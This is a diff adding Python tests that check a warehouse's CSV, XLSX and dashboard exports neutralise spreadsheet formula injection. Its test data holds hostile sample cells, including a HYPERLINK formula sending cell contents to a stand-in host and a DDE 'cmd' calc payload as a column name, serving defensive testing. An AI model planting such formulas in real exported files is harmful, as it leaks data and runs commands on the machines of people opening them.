@@ -17,6 +17,7 @@ from warehouse.export import (
     export_mart,
     frame_to_csv_bytes,
     frame_to_xlsx_bytes,
+    neutralise_formulas,
     read_mart,
 )
 
@@ -138,3 +139,82 @@ def test_cli_export(built_warehouse, tmp_path):
                                   "--out", str(tmp_path / "n.csv")])
     assert result.exit_code == 2
     assert "Available marts" in result.output and "kck_queue_service" in result.output
+
+
+# ------------------------------------------------------------------ formula injection
+# Issue 12 § 4: text from source systems goes out as text; a spreadsheet must not evaluate
+# it (OWASP CSV injection: cells starting with = + - @ TAB CR).
+EVIL = ['=HYPERLINK("http://x.invalid/?"&A1,"klik")', "=1+1", "+48 12 616 12 00",
+        "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Zgłoszenie = awaria", "ok"]
+
+
+def evil() -> pl.DataFrame:
+    return pl.DataFrame({
+        "title": EVIL,
+        "n": list(range(-4, 5)),  # negative numbers are numbers, not formulas
+        "value": [-1.5] * len(EVIL),
+        "code": pl.Series(EVIL, dtype=pl.Categorical),
+        "=cmd|' /C calc'!A0": ["x"] * len(EVIL),  # a column name from the SQL box
+    })
+
+
+@pytest.mark.parametrize("dialect", ["excel-pl", "standard"])
+def test_csv_text_cells_that_would_be_formulas_are_neutralised(dialect):
+    data = frame_to_csv_bytes(evil(), dialect)
+    back = pl.read_csv(io.BytesIO(data.removeprefix(BOM)),
+                       separator=";" if dialect == "excel-pl" else ",",
+                       decimal_comma=dialect == "excel-pl", infer_schema=False)
+    expected = ["'" + v if v[0] in "=+-@\t\r" else v for v in EVIL]
+    assert back["title"].to_list() == expected
+    assert back["code"].to_list() == expected
+    assert back.columns[-1] == "'=cmd|' /C calc'!A0"
+    # numbers keep their sign and stay unquoted numbers
+    assert back["n"].to_list() == [str(i) for i in range(-4, 5)]
+    assert back["value"].to_list() == ["-1,5" if dialect == "excel-pl" else "-1.5"] * len(EVIL)
+    text = data.decode("utf-8-sig")
+    assert "\n=" not in text and ";=" not in text and ",=" not in text
+
+
+def test_neutralise_formulas_leaves_numbers_dates_and_safe_text():
+    df = sample()
+    assert neutralise_formulas(df).equals(df)
+
+
+def test_xlsx_text_cells_stay_strings_never_formulas():
+    wb = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx_bytes(evil())))
+    rows = list(wb.active.iter_rows(min_row=2))
+    # the text itself (a CR kept as the OOXML escape _x000D_), …
+    assert [r[0].value for r in rows] == [v.replace("\r", "_x000D_") for v in EVIL]
+    assert {r[0].data_type for r in rows} == {"s"}  # … typed as a string, not "f"
+    assert [r[1].value for r in rows] == list(range(-4, 5))
+    assert {r[1].data_type for r in rows} == {"n"}
+
+
+def test_dashboard_download_buttons_use_the_same_rule():
+    from dashboards.components import _csv
+
+    for dialect in ("excel-pl", "standard"):
+        data = _csv(lambda: evil(), dialect)
+        assert data == frame_to_csv_bytes(evil(), dialect)
+        assert "'=HYPERLINK(" in data.decode("utf-8-sig")
+
+
+def test_cli_export_of_a_mart_neutralises_formulas(tmp_path):
+    import duckdb
+
+    from warehouse.store import writable_copy
+
+    wh = tmp_path / "warehouse.duckdb"
+    with writable_copy(wh) as build:
+        con = duckdb.connect(str(build))
+        con.execute("create schema marts")
+        con.execute("create table marts.publications as select * from (values "
+                    "('=1+1', 3), ('@SUM(A1)', -4)) t(title, days)")
+        con.close()
+    for dialect, sep in (("excel-pl", ";"), ("standard", ",")):
+        out = tmp_path / f"p_{dialect}.csv"
+        result = CliRunner().invoke(main, ["export", "publications", "--warehouse", str(wh),
+                                           "--dialect", dialect, "--out", str(out)])
+        assert result.exit_code == 0, result.output
+        lines = out.read_bytes().decode("utf-8-sig").splitlines()
+        assert lines[1:] == [f"'=1+1{sep}3", f"'@SUM(A1){sep}-4"]
